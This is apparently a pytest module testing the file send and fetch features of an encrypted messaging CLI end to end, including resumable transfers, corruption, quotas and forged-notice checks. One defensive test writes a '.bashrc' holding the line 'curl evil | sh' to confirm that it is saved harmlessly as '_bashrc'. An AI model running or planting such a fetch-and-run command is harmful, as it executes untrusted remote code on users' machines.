"""Files through the server (docs/PROTOCOL.md 4.4), end to end: real server, real TLS, the installed CLI."""

from __future__ import annotations

import hashlib
import json
import os
import shlex
import signal

import pytest

from tests.serverproc import ServerProc, sc, users_logged_in

SIZE = 3 * 1024 * 1024 + 777  # several FILE_PUT chunks, a partial last one


@pytest.fixture
def world(tmp_path):
    srv = ServerProc(tmp_path / "srv", "--file-quota", str(40 * 1024 * 1024)).start()
    homes = users_logged_in(srv, tmp_path, ("alice", "bob", "carol"))
    yield srv, homes, tmp_path
    srv.stop(signal.SIGKILL)


def _send(homes, src, to="bob"):
    r = sc(homes["alice"], "send", "--to", to, "--file", str(src), "--json")
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)


def test_send_inbox_fetch_round_trip(world):
    srv, homes, tmp = world
    src = tmp / "report 2026.bin"
    body = os.urandom(SIZE)
    src.write_bytes(body)
    sent = _send(homes, src)
    assert sent["size"] == SIZE and sent["sha256"] == hashlib.sha256(body).hexdigest()
    stored = srv.home / "files" / sent["file_id"]
    assert stored.exists() and body[:4096] not in stored.read_bytes()  # the server holds ciphertext only
    r = sc(homes["bob"], "inbox")
    assert r.returncode == 0, r.stderr
    # the fetch to type next names the --home the user gave (the new-user check: it did not, and so failed)
    home = shlex.quote(str(homes["bob"]))
    assert f"[file] report 2026.bin (3.0 MiB): securecomm --home {home} fetch {sent['file_id']}" in r.stdout.decode()
    out = tmp / "got.bin"
    r = sc(homes["bob"], "fetch", sent["file_id"], "-o", str(out))
    assert r.returncode == 0, r.stderr
    assert out.read_bytes() == body and oct(out.stat().st_mode & 0o777) == "0o600"
    assert not stored.exists()  # deleted once fetched
    assert [p.name for p in tmp.iterdir() if p.name.startswith(".")] == []  # no .part left
    # INFO lines name no file (joined on an id they said who sends files to whom), and no line holds the
    # whole id (a forged notice needs it)
    srv.wait_log("user=bob fetched a file: deleted")
    assert "user=alice uploaded a file (" in srv.log
    assert sent["file_id"] not in srv.log and sent["file_id"][:12] not in srv.log
    # a second fetch says where the first one put it (new-user check: it pointed to `inbox` instead),
    # and the key is gone from the device: only the path and time are kept
    r = sc(homes["bob"], "fetch", sent["file_id"], "-o", str(tmp / "again.bin"))
    assert r.returncode == 3 and not (tmp / "again.bin").exists()
    assert r.stderr.decode().splitlines()[0] == f"securecomm: error: file {sent['file_id']} was already fetched, " \
        f"to {out.resolve()} on " + r.stderr.decode().splitlines()[0].rsplit(" on ", 1)[1]
    assert b"ask the sender" in r.stderr and b"Traceback" not in r.stderr
    kept = [p for p in (homes["bob"]).rglob(f"{sent['file_id']}*")]
    assert [p.suffix for p in kept] == [".fetched"] and "key" not in kept[0].read_text()


def _scenario(name: str, *args: str) -> dict:
    """Run one of tests/file_scenarios.py in its own interpreter and return what it printed (JSON).
    (In-process, two of them in one pytest run left CPython 3.11.7's AST recursion counter off, and
    the next module pytest rewrote failed with SystemError; see the module's docstring.)"""
    import subprocess
    import sys

    r = subprocess.run([sys.executable, "-m", "tests.file_scenarios", name, *args], capture_output=True,
                       timeout=120, cwd=__import__("pathlib").Path(__file__).resolve().parent.parent)
    assert r.returncode == 0, r.stderr.decode()
    return json.loads(r.stdout)


def test_fetch_resumes_after_a_dropped_connection(world):
    """A download cut after about 1 MiB asks again from what it had received, not from zero, and the
    file still opens (the opening thread waited for the bytes)."""
    _, homes, tmp = world
    src = tmp / "data.bin"
    body = os.urandom(SIZE)
    src.write_bytes(body)
    file_id = _send(homes, src)["file_id"]
    assert sc(homes["bob"], "inbox").returncode == 0
    out = tmp / "data.out"
    got = _scenario("fetch_cut", str(homes["bob"]), file_id, str(out))
    offsets = got["offsets"]
    assert out.read_bytes() == body
    assert len(offsets) == 2 and offsets[0] == 0, offsets
    assert offsets[1] >= 512 * 1024, offsets  # from what it had, not from zero
    assert offsets[1] < got["stream_size"], offsets
    assert any("resuming" in w for w in got["warnings"])
    assert [p.name for p in tmp.iterdir() if p.name.startswith(".")] == []  # no temp file left


def test_a_corrupt_download_leaves_nothing_and_names_the_problem(world):
    """One flipped byte in the middle of the stored ciphertext: fetch fails on that chunk (after it
    wrote earlier chunks to its temp file), names the problem, and leaves nothing behind."""
    srv, homes, tmp = world
    src = tmp / "data.bin"
    src.write_bytes(os.urandom(SIZE))
    file_id = _send(homes, src)["file_id"]
    sc(homes["bob"], "inbox")
    stored = srv.home / "files" / file_id
    data = bytearray(stored.read_bytes())
    data[len(data) // 2] ^= 1
    stored.write_bytes(bytes(data))
    out = tmp / "data.out"
    r = sc(homes["bob"], "fetch", file_id, "-o", str(out))
    assert r.returncode == 6
    assert r.stderr.startswith(b"securecomm: error:") and b"announced" in r.stderr and b"Traceback" not in r.stderr
    assert not out.exists()
    assert [p.name for p in tmp.iterdir() if p.name.startswith(".")] == []  # the temp output is gone


def test_a_peer_cannot_plant_a_dot_file_in_the_current_folder(world, monkeypatch):
    """F11: a file the sender named `.bashrc`, fetched without -o, is saved as `_bashrc` with a warning;
    with -o the user's own name stands."""
    _, homes, tmp = world
    src = tmp / ".bashrc"
    src.write_bytes(b"curl evil | sh\n")
    file_id = _send(homes, src)["file_id"]
    sc(homes["bob"], "inbox")
    dl = tmp / "dl"
    dl.mkdir()
    monkeypatch.chdir(dl)
    r = sc(homes["bob"], "fetch", file_id)
    assert r.returncode == 0, r.stderr
    assert b"saving it as '_bashrc'" in r.stderr and r.stdout.decode().strip() == "_bashrc"
    assert sorted(p.name for p in dl.iterdir()) == ["_bashrc"]
    assert (dl / "_bashrc").read_bytes() == b"curl evil | sh\n"


def test_someone_elses_or_unknown_file(world):
    _, homes, tmp = world
    src = tmp / "x.bin"
    src.write_bytes(b"for bob only")
    r = sc(homes["carol"], "fetch", "00" * 16)
    assert r.returncode == 3 and b"no received file" in r.stderr
    _send(homes, src)
    r = sc(homes["carol"], "inbox")
    assert b"[file]" not in r.stdout


def test_over_quota_is_refused_before_upload(world):
    _, homes, tmp = world
    src = tmp / "big.bin"
    src.write_bytes(os.urandom(41 * 1024 * 1024))
    r = sc(homes["alice"], "send", "--to", "bob", "--file", str(src))
    assert r.returncode == 9
    assert r.stderr.startswith(b"securecomm: error:") and b"file storage is full" in r.stderr
    assert b"--file-quota" in r.stderr and b"--send-bytes" not in r.stderr  # the file limit, not the mail one
    assert list((tmp / "alice").rglob(".upload-*")) == []  # the sealed temp copy is gone


def test_file_usage_errors(world):
    _, homes, tmp = world
    (tmp / "f").write_bytes(b"x")
    for args in (["send", "--file", str(tmp / "f")], ["send", "--to", "bob", "--file", str(tmp / "f"), "hi"],
                 ["send"]):
        r = sc(homes["alice"], *args)
        assert r.returncode == 2 and r.stderr.startswith(b"securecomm: error:"), (args, r.stderr)
    r = sc(homes["alice"], "send", "--to", "nobody", "--file", str(tmp / "f"))
    assert r.returncode == 3 and b"Traceback" not in r.stderr


def test_upload_resumes_after_a_dropped_connection(world):
    """An upload cut after some chunks continues from the server's `received`, not from zero."""
    import asyncio

    from securecomm.cli.context import State
    from securecomm.client import files as F
    from securecomm.client.login import connect_profile
    from securecomm.crypto import identity as ident
    from securecomm.wire.files import CHUNK, FilePut

    srv, homes, tmp = world
    state = State(home=str(homes["alice"]))
    me = ident.load(state.paths.identity_key("default"))
    bob = ident.load_public(homes["bob"] / "identities" / "default.pub")
    src = tmp / "resume.bin"
    src.write_bytes(os.urandom(SIZE))
    with src.open("rb") as f:
        sealed = F.seal_to_temp(f, "resume.bin", me, bob, tmp / "outgoing")
    data = sealed.path.read_bytes()

    async def go() -> tuple[int, bytes]:
        first, _ = await connect_profile(state.paths, me)
        file_id, received = await F.offer(first, "bob", sealed)
        assert received == 0
        for at in range(0, 3 * CHUNK, CHUNK):  # three chunks, then the connection drops
            first.send_event(FilePut(file_id, at, data[at : at + CHUNK]))
        for _ in range(3):
            await F._next_event(first, (F.FileAck,))
        await first.close()
        second, _ = await connect_profile(state.paths, me)
        try:
            again, received = await F.offer(second, "bob", sealed, file_id)
            assert again == file_id
            await F.put_all(second, file_id, sealed, received)
        finally:
            await second.close()
        return received, file_id

    received, file_id = asyncio.run(go())
    assert received == 3 * CHUNK
    assert (srv.home / "files" / file_id.hex()).read_bytes() == data


@pytest.mark.skipif(__import__("shutil").which("tmux") is None, reason="tmux not installed")
def test_chat_send_file_in_the_background(world):
    """/send USER PATH in a real terminal: chat says when it is stored; bob's chat shows the file line."""
    from tests.conftest import ENTRY
    from tests.test_chat_tty import Tmux

    _, homes, tmp = world
    src = tmp / "notes.txt"
    src.write_bytes(os.urandom(2 * 1024 * 1024))
    tmux = Tmux()
    try:
        for u in ("alice", "bob"):
            tmux.start(u, f"{ENTRY} --home {homes[u]} chat --room lobby; sleep 30")
            tmux.wait_for(u, "joined #lobby")
        tmux.type("alice", f"/send bob {src}")
        tmux.wait_for("alice", "stored for bob", timeout=60)
        screen = tmux.wait_for("bob", "[file] notes.txt (2.0 MiB): securecomm --home", timeout=30)
        assert "\u2713" in screen
    finally:
        tmux.kill()
    r = sc(homes["bob"], "inbox")  # already shown (and acknowledged) by bob's chat: the notice is saved
    assert r.returncode == 0
    saved = list((homes["bob"] / "received").glob("*.json"))
    assert len(saved) == 1
    out = tmp / "notes.out"
    r = sc(homes["bob"], "fetch", saved[0].stem, "-o", str(out))
    assert r.returncode == 0, r.stderr
    assert out.read_bytes() == src.read_bytes()


def test_removing_the_recipient_deletes_their_files(world):
    srv, homes, tmp = world
    src = tmp / "gone.bin"
    src.write_bytes(os.urandom(1000))
    file_id = _send(homes, src)["file_id"]
    stored = srv.home / "files" / file_id
    assert stored.exists()
    r = sc(srv.home, "user", "remove", "bob", "--yes")
    assert r.returncode == 0, r.stderr
    srv.wait_log("deleted 1 file", timeout=15)
    assert not stored.exists()


def test_upload_while_sealing_resumes_after_a_dropped_connection(world):
    """send --file seals while it uploads (nothing sealed on disk); a connection cut after four
    FILE_PUTs is offered again and resumes from the server's `received`; bob gets the file."""
    srv, homes, tmp = world
    src = tmp / "big.bin"
    body = os.urandom(SIZE)
    src.write_bytes(body)
    got = _scenario("upload_cut", str(homes["alice"]), str(src))
    offers, file_id, stream_size = got["offers"], got["file_id"], got["stream_size"]
    assert [args.get("sha256") for args, _ in offers] == [None, None]  # the size alone: sealing while sending
    assert offers[0][0]["size"] == stream_size == offers[1][0]["size"]
    assert offers[1][0]["file_id"] == file_id and 0 < offers[1][1]["received"] <= 4 * 256 * 1024
    assert any("resuming" in w for w in got["warnings"])
    assert list((homes["alice"]).rglob(".upload-*")) == []  # nothing sealed to disk
    assert (srv.home / "files" / file_id).stat().st_size == stream_size
    assert sc(homes["bob"], "inbox").returncode == 0
    out = tmp / "big.out"
    r = sc(homes["bob"], "fetch", file_id, "-o", str(out))
    assert r.returncode == 0, r.stderr
    assert out.read_bytes() == body


def test_a_file_that_grows_while_it_is_sent_is_refused_before_the_server_completes_it(world):
    """The offer names the size the file had; the FILE_PUT that would complete the upload waits for
    the end of sealing, which came out longer: refused, and the server holds no complete file. bob
    was told of the file when the upload began (cut-through): the sender cancels the upload, so his
    fetch says at once that it is gone, and leaves nothing at OUT."""
    srv, homes, tmp = world
    small = tmp / "small.bin"
    small.write_bytes(os.urandom(1_000_000))
    got = _scenario("upload_grown", str(homes["alice"]), str(small))
    assert got["error"] == "UsageError" and "changed while it was being sent" in got["message"]
    assert got["warned"] == ["bob was told about this file; its unfinished upload was cancelled"]
    assert [p.name for p in (srv.home / "files").iterdir() if not p.name.startswith("files.db")] == []
    r = sc(homes["bob"], "inbox")
    file_id = r.stdout.decode().rsplit(" fetch ", 1)[1].split()[0]
    out = tmp / "small.out"
    r = sc(homes["bob"], "fetch", file_id, "-o", str(out))
    assert r.returncode == 3 and not out.exists(), r.stderr
    assert r.stderr.decode().splitlines() == [
        f"securecomm: error: file {file_id} is not on the server: its sender cancelled the upload, or it "
        "expired or was deleted", "securecomm: hint: ask the sender to send it again"]


def test_a_server_with_a_small_max_frame_still_takes_and_gives_files(tmp_path):
    """--max-frame 65536: FILE_PUT and FILE_DATA carry max_frame - 25 bytes each instead of 256 KiB
    (before, send --file stopped with 'the sealed message (262169 bytes) is larger than the limit')."""
    srv = ServerProc(tmp_path / "srv", "--max-frame", "65536").start()
    try:
        homes = users_logged_in(srv, tmp_path, ("alice", "bob"))
        src = tmp_path / "f.bin"
        body = os.urandom(1_000_000)
        src.write_bytes(body)
        file_id = _send(homes, src)["file_id"]
        assert sc(homes["bob"], "inbox").returncode == 0
        out = tmp_path / "f.out"
        r = sc(homes["bob"], "fetch", file_id, "-o", str(out))
        assert r.returncode == 0, r.stderr
        assert out.read_bytes() == body
    finally:
        srv.stop(signal.SIGKILL)


def test_a_server_file_longer_than_its_notice_is_refused_not_buffered(world):
    """Attack check: a sender announced a stream's true size but uploaded junk after it; bob's fetch had
    the whole stream at a chunk boundary and kept taking FILE_DATA into memory until the server's RESULT
    (521 MiB for a 195 KiB file), then said it had succeeded. Now the first byte past the notice ends it."""
    _, homes, tmp = world
    got = _scenario("overlong", str(homes["alice"]), "8")
    assert sc(homes["bob"], "inbox").returncode == 0
    out = tmp / "short.out"
    r = sc(homes["bob"], "fetch", got["file_id"], "-o", str(out))
    assert r.returncode == 6 and not out.exists(), r.stderr
    assert r.stderr.decode().splitlines()[0].startswith(
        "securecomm: error: the file on the server is larger than its notice announced (262144 bytes)")
    assert list(tmp.glob(".short.out*")) == []


def test_a_second_notice_for_a_known_file_id_cannot_replace_the_first(world):
    """Attack check: carol, knowing the id of alice's file to bob, sent bob a notice with that id and her
    own key; it replaced alice's saved notice (sender and key), and alice's file could not be fetched.
    Now the first notice stays, the second is shown as ignored; a malformed notice is shown as one line,
    never as its raw body (which holds a key)."""
    from securecomm.wire.files import NOTICE_PREFIX, FileNotice

    _, homes, tmp = world
    src = tmp / "real.bin"
    body = os.urandom(300_000)
    src.write_bytes(body)
    file_id = _send(homes, src)["file_id"]
    assert sc(homes["bob"], "inbox").returncode == 0
    forged = FileNotice(bytes.fromhex(file_id), "evil.bin", 10, b"", 100, b"", os.urandom(32))
    _scenario("notice_to_bob", str(homes["carol"]), forged.encode().hex())
    broken = NOTICE_PREFIX + b'{"id": "' + b"ab" * 16 + b'", "key": "' + b"cd" * 32 + b'"'
    _scenario("notice_to_bob", str(homes["carol"]), broken.hex())
    r = sc(homes["bob"], "inbox")
    text = r.stdout.decode()
    assert f"[file] evil.bin (10 bytes): ignored, file {file_id} was already announced to this device" in text
    assert "[file] a malformed file notice from carol, not shown" in text and "cd" * 32 not in text
    out = tmp / "real.out"
    r = sc(homes["bob"], "fetch", file_id, "-o", str(out))
    assert r.returncode == 0, r.stderr
    assert out.read_bytes() == body


def test_a_mistyped_output_folder_keeps_the_files_key(world):
    """The attacker's and the new user's checks (data loss): `fetch ID -o missing/x` failed locally with
    a NotFoundError, taken for the server's "no such file": the notice (the file's only key) was
    deleted and every later fetch said the file was gone, while the server still held it."""
    _, homes, tmp = world
    src = tmp / "keep.bin"
    body = os.urandom(100_000)
    src.write_bytes(body)
    file_id = _send(homes, src)["file_id"]
    assert sc(homes["bob"], "inbox").returncode == 0
    (tmp / "note.txt").write_bytes(b"a file, not a folder")
    for wrong, said in ((tmp / "missing" / "x", "does not exist"), (tmp / "note.txt" / "x", "is not a folder")):
        r = sc(homes["bob"], "fetch", file_id, "-o", str(wrong))
        assert r.returncode == 3 and f"folder {wrong.parent} {said}".encode() in r.stderr, r.stderr
    r = sc(homes["bob"], "fetch", file_id, "-o", str(tmp / "keep.out"))
    assert r.returncode == 0, r.stderr
    assert (tmp / "keep.out").read_bytes() == body


def test_a_file_rewritten_in_place_while_it_is_sent_is_refused(world):
    """The new-user check: bytes rewritten in place during a send (the size unchanged) reached bob as a
    file that never existed, its start old and its end new, "signature and sha256 verified"."""
    srv, homes, tmp = world
    src = tmp / "rewritten.bin"
    src.write_bytes(os.urandom(3_000_000))
    got = _scenario("upload_rewritten", str(homes["alice"]), str(src))
    assert got["error"] == "UsageError" and "changed while it was being sent" in got["message"], got
    assert [p.name for p in (srv.home / "files").iterdir() if not p.name.startswith("files.db")] == []


def test_chat_send_of_a_missing_path_fails_at_once(world):
    """The new-user check: `/send bob ~/missing` printed "sending missing to bob in the background..."
    before failing; a missing path is said at once, and nothing is said to be sending."""
    _, homes, tmp = world
    r = sc(homes["alice"], "chat", input=f"/send bob {tmp / 'missing.bin'}\n/quit\n".encode())
    assert r.returncode == 0, r.stderr
    out = r.stdout.decode()
    assert "file 'missing.bin' not sent to bob:" in out and "does not exist" in out, out
    assert "in the background" not in out, out


def test_a_download_ahead_of_its_consumer_holds_a_bounded_amount_in_memory(world):
    """The new-user check: `fetch` memory grew with the file (300 MiB: a 240 MB peak). A download waiting
    for its opener paused the transport and resumed it after, which undid the stream's own pause: the
    StreamReader's buffer then grew without bound (190 MB of it). Now the FILE_DATA waiting are counted
    and the read loop stops at a few MiB; the socket's flow control holds the server."""
    import asyncio
    import threading
    import time

    from securecomm.cli.context import State
    from securecomm.client import files as F
    from securecomm.client.connection import EventQueue
    from securecomm.client.login import connect_profile
    from securecomm.crypto import identity as ident

    _, homes, tmp = world
    src = tmp / "ahead.bin"
    src.write_bytes(os.urandom(32 * 1024 * 1024))
    file_id = _send(homes, src)["file_id"]
    assert sc(homes["bob"], "inbox").returncode == 0
    state = State(home=str(homes["bob"]))
    me = ident.load(state.paths.identity_key("default"))
    _, notice = F.load_notice(state.paths, file_id)

    async def go() -> tuple[int, int, int]:
        client, _ = await connect_profile(state.paths, me)
        feed = F.Feed(notice.stream_size, asyncio.get_running_loop())
        taken = [0]

        def slow_opener() -> None:  # now and then behind (a disk flushing), so that the feed fills
            for block in feed.blocks():
                taken[0] += len(block)
                if taken[0] % (64 * 256 * 1024) == 0:
                    time.sleep(0.05)

        worst = [0, 0]

        async def watch() -> None:
            while True:
                worst[0] = max(worst[0], len(client.reader._buffer))  # type: ignore[union-attr]
                worst[1] = max(worst[1], client.events.qsize())
                await asyncio.sleep(0.005)

        thread = threading.Thread(target=slow_opener)
        thread.start()
        watcher = asyncio.create_task(watch())
        try:
            await F.get_all(client, notice, feed)
            await asyncio.to_thread(thread.join, 60)  # the opener takes what is left in the feed
        finally:
            watcher.cancel()
            feed.stop()  # (on a failure only: it has ended by now otherwise)
            await asyncio.to_thread(thread.join, 60)
            await client.close()
        return taken[0], worst[0], worst[1]

    taken, buffered, queued = asyncio.run(go())
    assert taken == notice.stream_size  # the whole stream went through
    assert buffered <= 4 * 64 * 1024, f"{buffered} bytes waited in the stream's buffer"
    assert queued <= EventQueue.FILE_HIGH // (256 * 1024) + 2, f"{queued} FILE_DATA waited in the queue"
